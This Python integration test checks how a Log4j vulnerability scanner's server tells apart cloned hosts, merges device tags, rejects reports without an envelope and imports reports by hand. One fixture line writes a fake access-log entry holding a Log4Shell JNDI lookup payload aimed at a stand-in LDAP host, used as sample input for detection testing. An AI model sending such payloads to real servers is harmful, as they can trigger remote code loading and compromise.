#!/usr/bin/env python3
"""t_fleet_identity.py - every host reaches the fleet as itself (issue 19).

Against a real log4scan-server, on SQLite and on PostgreSQL:
- two installs with one machine id (a cloned VM: the same /etc/machine-id)
  and their own agent ids (two state directories) make two devices, each
  with its own findings, both flagged as sharing the machine id (device
  field, `shared_machine_id=1` filter, summary count); never merged;
- a device made by an agent that sent no agent id is adopted by the first
  report of that machine that carries one (history kept), and a second
  agent id then makes a second device;
- tags are the device's: a report adds its own (`scan --tag payments`, then
  `logs --tag prod` keeps both; a report without tags changes nothing),
  `--replace-tags` replaces them;
- a report without its envelope (a plain JSON Lines file of findings) is a
  400 that says the envelope is missing and what the first line was;
- `log4scan-server import FILE` stores reports carried in by hand (several
  in one file; again: duplicates; a file without an envelope fails naming
  what is missing)."""
import json
import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from server_common import OUT, SERVER, Server, check, check_eq, make_token, new_db  # noqa: E402

L4S, CORPUS = os.environ["L4S"], os.environ["CORPUS"]
TREE = os.path.join(OUT, "tree")
os.makedirs(TREE, exist_ok=True)
for name, src in (("a.jar", "log4j-samples/true-hits/log4j-core-2.14.1.jar"),
                  ("b.jar", "log4j-samples/false-hits/log4j-core-2.17.1.jar")):
    with open(os.path.join(CORPUS, src), "rb") as f, open(os.path.join(TREE, name), "wb") as g:
        g.write(f.read())
LOG = os.path.join(OUT, "access.log")
with open(LOG, "w") as f:
    f.write('198.51.100.4 - - [10/Dec/2021:13:55:36 +0000] "GET /?x=${jndi:ldap://203.0.113.7:1389/a} HTTP/1.1" 200 1\n')


def agent(state, *args, token=None):
    env = dict(os.environ, LOG4SCAN_STATE_DIR=os.path.join(OUT, state))
    env.pop("LOG4SCAN_TOKEN", None)
    if token:
        env["LOG4SCAN_TOKEN"] = token
    return subprocess.run([L4S, *args], capture_output=True, text=True, env=env, timeout=300)


def devices(srv, reader, query=""):
    return srv.get_json("/api/v1/devices" + query, token=reader).get("items", [])


def run(kind):
    t = kind + ": "
    db = new_db(kind, "identity")
    token = make_token(db, "fleet")
    reader = make_token(db, "reader", role="read")
    srv = Server(db, "--rate", "0", name="identity-" + kind)
    url = "http://127.0.0.1:%d" % srv.port

    # ---- two installs, one machine id
    ids = []
    for state in ("clone-a", "clone-b"):
        p = agent(state, "scan", "--no-config", "--format", "json", "--submit", url, TREE, token=token)
        check(t + state + ": sent", p.returncode == 1 and "sent to" in p.stderr, p.stderr[-300:])
        env = json.loads(p.stdout.splitlines()[0]) if p.stdout else {}
        ids.append(env.get("host", {}))
    check(t + "the clones share the machine id, not the agent id",
          ids[0].get("machine_id") == ids[1].get("machine_id") and ids[0].get("agent_id") != ids[1].get("agent_id"),
          ids)
    ds = devices(srv, reader)
    check_eq(t + "two devices for one machine id", len(ds), 2)
    check(t + "each keeps its own findings", all(d.get("vulnerable") == 1 and d.get("safe") == 1 for d in ds), ds)
    check(t + "both flagged: machine id shared", all(d.get("shared_machine_id") == 1 for d in ds), ds)
    check_eq(t + "their agent ids", sorted(d.get("agent_id") for d in ds), sorted(i.get("agent_id") for i in ids))
    check_eq(t + "filter shared_machine_id=1", len(devices(srv, reader, "?shared_machine_id=1")), 2)
    check_eq(t + "summary counts the shared machine id",
             srv.get_json("/api/v1/summary", token=reader).get("shared_machine_ids"), 1)
    p = agent("clone-a", "scan", "--no-config", "--format", "json", "--submit", url, TREE, token=token)
    check_eq(t + "a second report of one clone lands on its own device", sorted(d["reports"] for d in devices(srv, reader)),
             [1, 2])

    # ---- tags belong to the device: added, unless replaced
    agent("clone-a", "scan", "--no-config", "--format", "json", "--submit", url, "--tag", "payments", TREE, token=token)
    agent("clone-a", "logs", "--format", "json", "--submit", url, "--tag", "prod", LOG, token=token)
    mine = [d for d in devices(srv, reader) if d.get("agent_id") == ids[0].get("agent_id")]
    check_eq(t + "logs --tag prod keeps payments set by scan", mine[0].get("tags") if mine else None,
             ["payments", "prod"])
    agent("clone-a", "scan", "--no-config", "--format", "json", "--submit", url, TREE, token=token)
    mine = [d for d in devices(srv, reader) if d.get("agent_id") == ids[0].get("agent_id")]
    check_eq(t + "a report without tags changes none", mine[0].get("tags") if mine else None, ["payments", "prod"])
    agent("clone-a", "scan", "--no-config", "--format", "json", "--submit", url, "--replace-tags", "--tag", "dmz", TREE,
          token=token)
    mine = [d for d in devices(srv, reader) if d.get("agent_id") == ids[0].get("agent_id")]
    check_eq(t + "--replace-tags replaces them", mine[0].get("tags") if mine else None, ["dmz"])
    check_eq(t + "the other clone's tags are its own", [d.get("tags") for d in devices(srv, reader)
                                                        if d.get("agent_id") == ids[1].get("agent_id")], [[]])

    # ---- a device from before agent ids is adopted once, then clones split
    p = agent("legacy", "scan", "--no-config", "--format", "json", "-o", os.path.join(OUT, "legacy.json"), TREE)
    lines = open(os.path.join(OUT, "legacy.json"), encoding="utf-8").read().splitlines()
    env = json.loads(lines[0])
    old_mid = "0123456789abcdef0123456789abcdef"
    env["host"]["machine_id"] = old_mid
    env["host"].pop("agent_id", None)
    body = json.dumps(env) + "\n" + "\n".join(lines[1:]) + "\n"
    st, h, data = srv.request("POST", "/api/v1/reports", body.encode(), {"Authorization": "Bearer " + token})
    legacy = [d for d in devices(srv, reader, "?machine_id=" + old_mid)]
    check(t + "an agent without agent id: one device, no agent id", st == 200 and len(legacy) == 1 and
          legacy[0].get("agent_id") == "", (st, data[:200], legacy))
    for n, aid in enumerate(("6f1c0e2a-1b2c-4d3e-8f40-112233445566", "7a2d1f3b-2c3d-4e4f-9a51-223344556677")):
        env["host"]["agent_id"] = aid
        env["report_id"] = "%08d-0000-4000-8000-%012d" % (n + 1, n + 1)
        body = json.dumps(env) + "\n" + "\n".join(lines[1:]) + "\n"
        st, h, data = srv.request("POST", "/api/v1/reports", body.encode(), {"Authorization": "Bearer " + token})
        check_eq(t + "report %d with an agent id accepted" % (n + 1), st, 200)
    after = devices(srv, reader, "?machine_id=" + old_mid)
    adopted = [d for d in after if d["id"] == legacy[0]["id"]] if legacy else []
    check(t + "the first agent id adopts the old device (same id, its history)", adopted and
          adopted[0].get("agent_id") == "6f1c0e2a-1b2c-4d3e-8f40-112233445566" and adopted[0].get("reports") == 2,
          after)
    check(t + "the second agent id is a second device, both flagged", len(after) == 2 and
          all(d.get("shared_machine_id") == 1 for d in after), after)

    # ---- a report without its envelope: 400 saying what is missing
    plain = "\n".join(lines[1:]) + "\n"
    st, h, data = srv.request("POST", "/api/v1/reports", plain.encode(), {"Authorization": "Bearer " + token})
    err = json.loads(data or b"{}").get("error", "")
    check(t + "no envelope: 400 naming what is missing and what came instead",
          st == 400 and "envelope is missing" in err and '"finding"' in err and "log4scan submit" in err, (st, err))
    srv.stop()

    # ---- import, for reports carried in by hand
    if kind == "sqlite":
        saved = os.path.join(OUT, "carried.json")
        agent("airgap", "scan", "--no-config", "--format", "json", "-o", saved, TREE)
        agent("airgap", "logs", "--format", "json", "-o", saved + ".logs", LOG)
        with open(saved, "a") as f:
            f.write(open(saved + ".logs").read())
        p = subprocess.run([SERVER, "import", saved, "--db", db], capture_output=True, text=True, timeout=120)
        out = [json.loads(x) for x in p.stdout.splitlines() if x.startswith("{")]
        check(t + "import: two reports from one file", p.returncode == 0 and len(out) == 2 and
              all(x.get("imported") and not x.get("duplicate") for x in out), (p.returncode, p.stdout, p.stderr))
        p = subprocess.run([SERVER, "import", saved, "--db", db], capture_output=True, text=True, timeout=120)
        check(t + "import again: duplicates, stored once", p.returncode == 0 and
              all(json.loads(x).get("duplicate") for x in p.stdout.splitlines()), p.stdout)
        bad = os.path.join(OUT, "plain.json")
        with open(bad, "w") as f:
            f.write(plain)
        p = subprocess.run([SERVER, "import", bad, "--db", db], capture_output=True, text=True, timeout=120)
        check(t + "import of a file without an envelope fails naming it", p.returncode == 1 and bad in p.stderr and
              "envelope is missing" in p.stderr, p.stderr[-300:])
        srv = Server(db, "--rate", "0", name="identity-import")
        aid = json.loads(open(saved, encoding="utf-8").readline())["host"]["agent_id"]
        airgap = [d for d in devices(srv, reader) if d.get("agent_id") == aid]
        check(t + "the imported host appears with its findings and its attempt", len(airgap) == 1 and
              airgap[0].get("attempts") == 1 and airgap[0].get("vulnerable") == 1 and airgap[0].get("reports") == 2,
              airgap)
        srv.stop()


run("sqlite")
try:
    run("pg")
except RuntimeError as e:
    check("pg: PostgreSQL available", False, e)
